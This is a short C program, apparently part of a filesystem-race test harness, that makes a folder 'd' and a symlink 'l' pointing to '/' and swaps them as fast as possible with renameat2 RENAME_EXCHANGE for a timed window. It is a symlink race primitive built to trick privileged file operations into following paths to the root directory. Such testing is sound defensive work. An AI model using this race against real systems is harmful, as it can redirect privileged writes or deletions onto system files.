/* swap-folder MS: `d` is a folder, then a link to /, then a folder…, as fast as it can. */
#include "attack.h"
int main(int argc, char **argv) {
  (void)argc;
  double end = wall_ms() + number(argv, 1, 300);
  long swaps = 0;
  mkdir("d", 0755);
  (void)!symlink("/", "l");
  while (wall_ms() < end) {
    syscall(SYS_renameat2, AT_FDCWD, "d", AT_FDCWD, "l", 2 /* RENAME_EXCHANGE */);
    swaps++;
  }
  printf("%ld swaps\n", swaps);
  return done();
}
